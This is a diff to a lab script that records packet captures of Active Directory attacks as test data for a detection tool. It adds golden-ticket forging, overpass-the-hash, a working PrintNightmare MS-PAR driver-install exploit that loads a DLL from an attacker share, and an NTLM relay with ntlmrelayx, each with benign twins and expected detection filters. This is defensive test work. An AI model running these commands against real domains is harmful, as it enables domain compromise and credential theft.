@@ -1,13 +1,14 @@
 # Extra scenarios for ../shared/lab/make-captures.sh, recorded into testdata/lab-extra/ by
 #   sudo ../shared/lab/make-captures.sh up
-#   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh \
+#   sudo env VARIANT_FILE=$PWD/testdata/lab-extra/scenarios.sh ORTHRUS_BIN=$PWD/target/debug/orthrus \
 #        ONLY="honeytoken_ldap_query honeytoken_samr_query ldap_bind_bruteforce ntlm_user_enum benign_directory_lookups golden_ticket_ghost \
 #             forged_pac benign_no_pac_client dpapi_backupkey_bkrp benign_bkrp_restore \
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
 #             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
 #             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare \
-#             gpo_defender_disabled benign_gpo_edit" \
+#             gpo_defender_disabled benign_gpo_edit golden_ticket_lifetime overpass_windows_workstation printnightmare_par \
+#             ntlm_relay_exchange_account" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -729,4 +730,170 @@ sc_benign_gpo_edit() {
   gpo_edit ws "$DA_USER" "$DA_PASS" "$WORK/tmp/good.pol"
   expect 'smb2.filename contains "Registry.pol"'
   cap_end
+}
+
+SCEN_LIST="$SCEN_LIST golden_ticket_lifetime"
+
+# The KDC's "maximum lifetime for user ticket" (Samba: kdc:user ticket lifetime, in whole
+# hours; Windows: the Default Domain Policy's MaxTicketAge). Samba reads it when it starts.
+kdc_user_ticket_lifetime() {   # kdc_user_ticket_lifetime HOURS
+  local conf="$PREFIX/etc/smb.conf"
+  sed -i '/kdc:user ticket lifetime/d' "$conf"
+  sed -i "s/^\[global\]$/[global]\n\tkdc:user ticket lifetime = $1/" "$conf"
+  kill_tracked samba TERM
+  dc_start
+}
+
+# A golden ticket outlives the KDC's user-ticket lifetime: with the policy at one hour (the
+# shortest Samba takes), a TGT forged with impacket ticketer (ten years, its default) is used
+# for a service ticket, and again 67 minutes later; the KDC honours it both times. Beside it
+# the workstation's users do what honest clients do across the same hour: alice's renewable
+# TGT is renewed at 40 minutes and the renewed one used at 67; carol's impacket TGT is
+# presented once more after it expired, and the KDC refuses it (KRB_AP_ERR_TKT_EXPIRED).
+sc_golden_ticket_lifetime() {
+  krbtgt_keys
+  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
+  kdc_user_ticket_lifetime 1
+  cap_begin golden_ticket_lifetime attack T1558.001 "$ATK_IP" "$forged (forged TGT, 10-year lifetime), cifs/$DCFQDN, ldap/$DCFQDN" \
+    "Golden ticket used past the maximum user-ticket lifetime: with the KDC's policy at 1 hour, a TGT for $forged forged with the krbtgt AES key by impacket ticketer (lifetime ten years, its default) is presented in a TGS-REQ and again 67 minutes later, both answered. The workstation meanwhile renews alice's TGT at 40 minutes and uses the renewed one at 67, and presents carol's expired impacket TGT at 67 (refused, KRB_AP_ERR_TKT_EXPIRED)."
+  workstation_logons
+  EXTRA_ENV=$(cc ws-life-alice) on_in "$ALICE_PASS" ws 30 -- kinit -r 3h "alice@$REALM"
+  EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "cifs/$DCFQDN@$REALM"
+  on ws -- "$VPY" "$IMP/getTGT.py" -dc-ip "$DC_IP" "$DNSDOM/carol:$CAROL_PASS"
+  cp -f "$WORK/tmp/carol.ccache" "$WORK/cc/ws-life-carol" 2>/dev/null
+  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
+  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-life" 2>/dev/null
+  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden-life" "$(cat "$WORK/krbtgt.kvno")"
+  EXTRA_ENV=$(cc atk-golden-life) on atk -- kvno "cifs/$DCFQDN@$REALM"
+  sleep 2400
+  EXTRA_ENV=$(cc ws-life-alice) on ws -- kinit -R
+  sleep 1620
+  EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "ldap/$DCFQDN@$REALM"
+  EXTRA_ENV=$(cc ws-life-carol) on ws -- "$VPY" "$IMP/getST.py" -k -no-pass -dc-ip "$DC_IP" -spn "ldap/$DCFQDN" "$DNSDOM/carol"
+  EXTRA_ENV=$(cc atk-golden-life) on atk -- kvno "ldap/$DCFQDN@$REALM"
+  expect "kerberos.msg_type==13 && ip.dst==$ATK_IP" 2
+  expect "kerberos.error_code==32 && ip.dst==$WS_IP"
+  cap_end
+  kdc_user_ticket_lifetime 10
+}
+
+SCEN_LIST="$SCEN_LIST overpass_windows_workstation"
+
+WS02_PASS='Ws02-Machine-Pw!7'
+
+# Overpass-the-hash from a computer the directory knows as Windows. The lab has no Windows
+# host: WS02's directory entry is given what a joining Windows 10 computer writes
+# (operatingSystem, operatingSystemVersion, dNSHostName) and a known machine password, and
+# WS02's machine account logs on from the attacker's address as a joined computer does at
+# boot — which is how name resolution ties that address to WS02. Then impacket's getTGT asks
+# for alice's TGT with her NT hash alone. The same tool from the workstation (a computer the
+# directory does not call Windows) is the benign twin: Unix hosts have their own Kerberos.
+# The directory is synced afterwards (sync_directory) for the recording's tests.
+sc_overpass_windows_workstation() {
+  local dn="CN=WS02,CN=Computers,$BASEDN"
+  printf 'dn: %s\nchangetype: modify\nreplace: operatingSystem\noperatingSystem: Windows 10 Enterprise\n-\nreplace: operatingSystemVersion\noperatingSystemVersion: 10.0 (19045)\n-\nreplace: dNSHostName\ndNSHostName: ws02.%s\n' "$dn" "$DNSDOM" \
+    | dcns ldbmodify -H "$PREFIX/private/sam.ldb" >/dev/null || die "ldbmodify WS02 failed"
+  st user setpassword 'WS02$' --newpassword="$WS02_PASS" >/dev/null || die "WS02 password"
+  cap_begin overpass_windows_workstation attack T1550.002 "$ATK_IP" "alice" \
+    "Overpass-the-hash on a Windows-joined computer: WS02 (Windows 10 in the directory) logs its machine account on from $ATK_IP, then impacket getTGT asks for alice's TGT from there with her NT hash only (AS-REQ with RC4 alone, no canonicalize, till tomorrow, no address). The workstation $WS_IP, not a Windows computer in the directory, does the same for carol: no alert expected there."
+  EXTRA_ENV=$(cc atk-ws02) on_in "$WS02_PASS" atk 30 -- kinit "WS02\$@$REALM"
+  on atk 60 -- "$VPY" "$IMP/getTGT.py" "$DNSDOM/alice" -hashes ":$(nt_hash "$ALICE_PASS")" -dc-ip "$DC_IP"
+  on ws 60 -- "$VPY" "$IMP/getTGT.py" "$DNSDOM/carol" -hashes ":$(nt_hash "$CAROL_PASS")" -dc-ip "$DC_IP"
+  expect "kerberos.msg_type==11 && kerberos.CNameString==\"WS02\$\" && ip.dst==$ATK_IP"
+  expect "kerberos.msg_type==10 && kerberos.CNameString==\"alice\" && kerberos.etype==23 && !kerberos.etype==18 && ip.src==$ATK_IP"
+  expect "kerberos.msg_type==11 && kerberos.CNameString==\"carol\" && ip.dst==$WS_IP"
+  cap_end
+  sync_directory overpass_windows_workstation
+}
+
+# With ORTHRUS_BIN set: the directory as it is now, synced over LDAPS from the workstation into
+# $OUT/NAME.snapshot.json (after cap_end: the sync is not part of the recording).
+sync_directory() {   # sync_directory NAME
+  [ -n "${ORTHRUS_BIN:-}" ] || return 0
+  printf '%s\n' "$ADMIN_PASS" > "$WORK/tmp/admin.pw"
+  rm -f "$OUT/$1.snapshot.json"
+  ns $NS_WS "$ORTHRUS_BIN" directory sync --url "ldaps://$DC_IP" --insecure-skip-verify \
+    --bind-dn "Administrator@$DNSDOM" --password-file "$WORK/tmp/admin.pw" \
+    -o "$OUT/$1.snapshot.json" >> "$OUT/.meta/$1/output.log" 2>&1
+  rm -f "$WORK/tmp/admin.pw"
+}
+
+SCEN_LIST="$SCEN_LIST printnightmare_par"
+
+# PrintNightmare over MS-PAR (as SharpPrintNightmare and impacket-based exploits offer it):
+# RpcAsyncAddPrinterDriver on IRemoteWinspool, found through the endpoint mapper, over TCP and
+# sealed (packet privacy, as MS-PAR requires), with the same driver as printnightmare.
+par_driver_tool() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/add_driver_par.py" <<'PYEOF'
+# usage: add_driver_par.py DOMAIN USER PASSWORD HOST DLL_UNC
+import sys
+from impacket.dcerpc.v5 import transport, par, rprn, epm
+from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
+dom, user, pw, host, dll = sys.argv[1:6]
+binding = epm.hept_map(host, par.MSRPC_UUID_PAR, protocol='ncacn_ip_tcp')
+print('endpoint', binding)
+t = transport.DCERPCTransportFactory(binding)
+t.set_credentials(user, pw, dom, '', '')
+dce = t.get_dce_rpc()
+dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
+dce.connect()
+dce.bind(par.MSRPC_UUID_PAR)
+container = rprn.DRIVER_CONTAINER()
+container['Level'] = 2
+container['DriverInfo']['tag'] = 2
+info = container['DriverInfo']['Level2']
+info['cVersion'] = 3
+info['pName'] = 'Orthrus Lab Driver\x00'
+info['pEnvironment'] = 'Windows x64\x00'
+info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
+info['pDataFile'] = dll + '\x00'
+info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
+try:
+    par.hRpcAsyncAddPrinterDriver(dce, pName='\\\\%s\x00' % host, pDriverContainer=container,
+                                  dwFileCopyFlags=rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
+    print('driver added')
+except Exception as e:
+    print('refused:', e)
+PYEOF
+}
+
+sc_printnightmare_par() {
+  par_driver_tool
+  cap_begin printnightmare_par attack T1210 "$ATK_IP" "$DCFQDN (Print Spooler driver, MS-PAR)" \
+    "PrintNightmare over MS-PAR: with a phished account ($RECON_USER), RpcAsyncAddPrinterDriver on IRemoteWinspool (endpoint mapper, then TCP, sealed with packet privacy) asking the DC's spooler to install a driver whose data file is a DLL on the attacker's share."
+  on atk 60 -- "$VPY" "$WORK/tools/add_driver_par.py" "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "\\\\$ATK_IP\\share\\evil.dll"
+  expect 'dcerpc.cn_bind_to_uuid == 76f03f96-cdfd-44fc-a22c-64950a001209'
+  expect 'dcerpc.opnum == 39 && dcerpc.pkt_type == 0'
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST ntlm_relay_exchange_account"
+
+EXCH_PASS='Exch01-Machine-Pw!3'
+
+# PrivExchange's relay (an Exchange server made to authenticate to the attacker, its machine
+# account's NTLM relayed to the DC). The lab has no Exchange: EXCH01 is a computer account in
+# the group Exchange setup creates (Exchange Servers), with a known machine password, whose
+# "server" is the workstation's address: it logs its machine account on with Kerberos there
+# and opens an NTLM session to the DC from there (its own logons: no alert). Then it
+# authenticates to the attacker's host (as the push subscription makes Exchange do over HTTP;
+# here SMB) and ntlmrelayx passes EXCH01$'s NTLM on to the DC's SMB.
+sc_ntlm_relay_exchange_account() {
+  st computer create EXCH01 >/dev/null 2>&1
+  st user setpassword 'EXCH01$' --newpassword="$EXCH_PASS" >/dev/null || die "EXCH01 password"
+  st group add "Exchange Servers" >/dev/null 2>&1
+  st group addmembers "Exchange Servers" 'EXCH01$' >/dev/null 2>&1
+  cap_begin ntlm_relay_exchange_account attack T1557.001 "$ATK_IP" "EXCH01\$ (relayed), $DCFQDN" \
+    "NTLM relay of an Exchange server's machine account (PrivExchange's relay): EXCH01 (in Exchange Servers) logs its machine account on with Kerberos from $WS_IP and lists the DC's shares over NTLM from there; then it authenticates to the attacker's host and impacket ntlmrelayx relays EXCH01\$'s NTLM authentication to the DC's SMB."
+  EXTRA_ENV=$(cc ws-exch01) on_in "$EXCH_PASS" ws 30 -- kinit "EXCH01\$@$REALM"
+  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\EXCH01\$%$EXCH_PASS" --use-kerberos=disabled -L "//$DC_IP"
+  relay_start -t "smb://$DC_IP" -smb2support --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
+  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\EXCH01\$%$EXCH_PASS" --use-kerberos=disabled "//$ATK_IP/share" -c ls
+  relay_stop
+  expect "kerberos.msg_type==11 && ip.dst==$WS_IP && kerberos.CNameString==\"EXCH01\$\""
+  expect "ntlmssp.messagetype==3 && ip.src==$WS_IP && ip.dst==$DC_IP && ntlmssp.auth.username==\"EXCH01\$\""
+  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP && ntlmssp.auth.username==\"EXCH01\$\""
+  cap_end
+  sync_directory ntlm_relay_exchange_account
 }
